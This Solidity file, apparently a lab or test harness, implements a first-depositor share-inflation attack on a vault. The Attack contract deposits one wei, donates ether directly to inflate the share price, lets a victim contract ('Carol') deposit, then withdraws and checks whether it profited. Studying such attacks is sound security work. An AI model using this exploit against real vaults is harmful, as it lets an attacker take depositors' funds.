// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

interface ITarget {
    function deposit() external payable;
    function withdraw() external;
}

/// @notice An honest saver, who deposits second.
contract Saver {
    constructor() payable { }

    function save(ITarget target) external {
        target.deposit{ value: address(this).balance }();
    }

    function withdraw(ITarget target) external {
        target.withdraw();
    }

    receive() external payable { }
}

/// @notice A first depositor, who makes one share so expensive that the next saver gets too few.
contract Attack {
    uint256 private constant OWN = 60 ether;

    ITarget private immutable _target;
    Saver private immutable _carol;

    constructor(address target) payable {
        _target = ITarget(target);
        _carol = new Saver{ value: 40 ether }();
    }

    /// @param parameter The ether given to the vault before Carol deposits.
    function attack(uint256 parameter) external {
        try _target.deposit{ value: 1 }() { } catch { }
        (bool given,) = address(_target).call{ value: parameter }("");
        if (!given) return;
        try _carol.save(_target) { } catch { }
        try _target.withdraw() { } catch { }
        try _carol.withdraw(_target) { } catch { }
    }

    receive() external payable { }

    function rows() external view returns (string[] memory names, uint256[] memory amounts) {
        names = new string[](3);
        amounts = new uint256[](3);
        (names[0], amounts[0]) = ("Ether in the vault", address(_target).balance);
        (names[1], amounts[1]) = ("Ether Carol holds", address(_carol).balance);
        (names[2], amounts[2]) = ("Ether the attacker holds", address(this).balance);
    }

    /// @return The attacker has more than before.
    function succeeded() external view returns (bool) {
        return address(this).balance > OWN;
    }
}
